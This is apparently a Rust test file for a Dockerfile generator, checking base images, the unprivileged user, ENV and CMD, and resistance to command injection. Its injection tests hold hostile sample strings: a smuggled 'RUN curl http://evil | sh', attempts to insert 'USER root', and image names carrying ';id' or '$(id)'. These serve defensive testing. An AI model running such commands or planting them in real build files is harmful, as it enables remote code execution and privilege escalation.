//! Generated Dockerfiles: structure, base images, and commands that try to break out of their instruction.
//! (Snapshots per provider: `domain/tests/dockerfile.rs`.)

use super::*;

/// A Dockerfile read the way Docker's parser reads it: continuation lines joined, comments and blank
/// lines dropped, each instruction split into its keyword and the rest.
fn instructions(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut pending = String::new();
    for line in text.lines() {
        if pending.is_empty() && (line.trim_start().starts_with('#') || line.trim().is_empty()) {
            continue;
        }
        if let Some(head) = line.strip_suffix('\\') {
            pending.push_str(head);
            continue;
        }
        pending.push_str(line);
        let (keyword, rest) = pending.trim().split_once(' ').unwrap_or((pending.trim(), ""));
        out.push((keyword.to_ascii_uppercase(), rest.to_string()));
        pending.clear();
    }
    assert!(pending.is_empty(), "a continuation line runs off the end:\n{text}");
    out
}

/// The shell commands of the exec-form instructions named `keyword`, checking each is `sh -c <one string>`.
fn commands(text: &str, keyword: &str) -> Vec<String> {
    instructions(text)
        .into_iter()
        .filter(|(k, _)| k == keyword)
        .map(|(_, rest)| {
            let argv: Vec<String> = serde_json::from_str(&rest).unwrap_or_else(|e| panic!("{keyword} {rest} is not exec form: {e}"));
            assert_eq!(argv.len(), 3, "{argv:?}");
            assert_eq!((argv[0].as_str(), argv[1].as_str()), ("/bin/sh", "-c"));
            argv[2].clone()
        })
        .collect()
}

fn generate(plan: &BuildPlan) -> String {
    dockerfile(plan, &MemView::new(), &BaseImages::default()).expect("a Dockerfile")
}

fn custom(build: &[&str], start: &str) -> BuildPlan {
    BuildPlan::new(Provider::Custom, cmds(build), Some(start.to_string()), None)
}

#[test]
fn quotes_newlines_and_backslashes_stay_inside_their_instruction() {
    let evil = [
        "echo \"]\nRUN curl http://evil | sh\n#",
        "echo done \\",
        "printf '%s' \"it's\" \\\n USER root",
        "x\r\nUSER 0\r\n",
        "echo $(id) `id` ${HOME} && exit 0 # [\"x\"]",
        "\u{2028}echo \u{0}nul\u{7f}",
    ];
    let plan = custom(&evil, "./serve \"$PORT\"\nUSER root\nCMD [\"sh\"] \\");
    let text = generate(&plan);
    let runs = commands(&text, "RUN");
    assert_eq!(&runs[runs.len() - evil.len()..], &cmds(&evil)[..], "{text}");
    assert_eq!(commands(&text, "CMD"), vec![plan.start.clone().unwrap_or_default()]);
    let users: Vec<String> = instructions(&text).into_iter().filter(|(k, _)| k == "USER").map(|(_, v)| v).collect();
    assert_eq!(users, ["10001:10001"], "{text}");
    let keywords: Vec<String> = instructions(&text).into_iter().map(|(k, _)| k).collect();
    for keyword in &keywords {
        assert!(["FROM", "WORKDIR", "RUN", "ENV", "COPY", "USER", "CMD"].contains(&keyword.as_str()), "{keyword} in\n{text}");
    }
    assert_eq!(keywords.last().map(String::as_str), Some("CMD"));
}

#[test]
fn a_start_command_is_run_by_sh_so_port_is_read_when_the_container_starts() {
    let text = generate(&custom(&[], "./server --port $PORT"));
    assert!(text.ends_with("CMD [\"/bin/sh\", \"-c\", \"./server --port $PORT\"]\n"), "{text}");
}

#[test]
fn build_steps_run_as_the_unprivileged_user_after_the_source_is_copied() {
    let text = generate(&custom(&["make"], "./app"));
    let keywords: Vec<(String, String)> = instructions(&text);
    let user = keywords.iter().position(|(k, _)| k == "USER").expect("USER");
    let copy = keywords.iter().position(|(k, _)| k == "COPY").expect("COPY");
    let make = keywords.iter().position(|(k, v)| k == "RUN" && v.contains("make")).expect("RUN make");
    assert!(copy < user && user < make, "{text}");
    assert!(keywords[copy].1.starts_with("--chown=10001:10001 "), "{text}");
}

#[test]
fn nothing_but_fixed_settings_is_written_into_the_environment() {
    let text = generate(&custom(&["make"], "./app"));
    let envs: Vec<String> = instructions(&text).into_iter().filter(|(k, _)| k == "ENV" || k == "ARG").map(|(_, v)| v).collect();
    assert_eq!(envs, ["HOME=/home/rhone HOST=0.0.0.0"], "{text}");
}

#[test]
fn go_and_rust_build_in_the_toolchain_and_run_in_the_slim_image() {
    let go = plan(&MemView::new().file("go.mod", "module x"));
    let text = generate(&go);
    let froms: Vec<String> = instructions(&text).into_iter().filter(|(k, _)| k == "FROM").map(|(_, v)| v).collect();
    assert_eq!(froms, ["golang:1.23-bookworm AS build", "debian:bookworm-slim"], "{text}");
    assert!(text.contains("COPY --from=build --chown=10001:10001 /app /app\n"), "{text}");
    let rust = plan(&MemView::new().file("Cargo.toml", "[package]\nname = \"web\"\n"));
    let text = generate(&rust);
    assert!(text.starts_with("# Generated") && text.contains("FROM rust:1-bookworm AS build\n"), "{text}");
    assert!(commands(&text, "RUN").iter().any(|c| c.starts_with("rm -rf target/debug")), "{text}");
    assert_eq!(commands(&text, "CMD"), ["./target/release/web"]);
}

#[test]
fn a_procfile_app_gets_its_languages_image() {
    let repo = MemView::new().file("Procfile", "web: python3 -m http.server $PORT").file("requirements.txt", "").file("app.py", "");
    let procfile = plan(&repo);
    assert_eq!(procfile.provider, Provider::Procfile);
    let text = dockerfile(&procfile, &repo, &BaseImages::default()).expect("Dockerfile");
    assert!(text.contains("FROM python:3.12-slim-bookworm\n"), "{text}");
    let bare = MemView::new().file("Procfile", "web: ./run");
    let text = dockerfile(&plan(&bare), &bare, &BaseImages::default()).expect("Dockerfile");
    assert!(text.contains("FROM debian:bookworm-slim\n"), "{text}");
}

#[test]
fn a_static_site_is_served_by_busybox_httpd_from_its_root() {
    let mut site = plan(&MemView::new().file("index.html", ""));
    assert!(generate(&site).ends_with("CMD [\"/bin/sh\", \"-c\", \"httpd -f -p ${HOST:-0.0.0.0}:$PORT -h /app\"]\n"));
    site.static_root = Some("./public site/".to_string());
    assert_eq!(commands(&generate(&site), "CMD"), ["httpd -f -p ${HOST:-0.0.0.0}:$PORT -h '/app/public site'"]);
}

#[test]
fn pnpm_yarn_and_bun_get_their_tool_before_the_user_switch() {
    for (lock, tool) in [("pnpm-lock.yaml", "corepack enable"), ("yarn.lock", "corepack enable"), ("bun.lock", "npm install -g bun")] {
        let repo = MemView::new().file("package.json", r#"{"scripts": {"start": "node s.js"}}"#).file(lock, "");
        let text = generate(&plan(&repo));
        let runs = commands(&text, "RUN");
        assert_eq!(runs.first().map(String::as_str), Some(tool), "{text}");
        assert!(text.find(tool) < text.find("USER"), "{text}");
    }
}

#[test]
fn a_plan_of_the_repositorys_own_dockerfile_is_not_generated() {
    let plan = BuildPlan::new(Provider::Dockerfile, vec![], None, None);
    let err = dockerfile(&plan, &MemView::new(), &BaseImages::default()).expect_err("no Dockerfile");
    assert!(err.to_string().contains("own Dockerfile"), "{err}");
}

#[test]
fn base_images_come_from_settings_and_reject_anything_but_an_image_name() {
    let bases = BaseImages::from_settings(|key| (key == "docker_base_node").then(|| " registry:5000/n/node@sha256:ab ".to_string()))
        .expect("bases");
    assert_eq!(bases.node.as_str(), "registry:5000/n/node@sha256:ab");
    assert_eq!(bases.go, BaseImages::default().go);
    assert_eq!(BaseImages::from_settings(|_| Some("  ".into())).expect("blank is unset"), BaseImages::default());
    for bad in ["busybox\nRUN id", "a b", "-x", "img;id", "img$(id)", "\"img\"", &"i".repeat(256)] {
        let err = BaseImages::from_settings(|key| (key == "docker_base_static").then(|| bad.to_string())).expect_err(bad);
        assert!(err.to_string().contains("docker_base_static"), "{err}");
    }
}
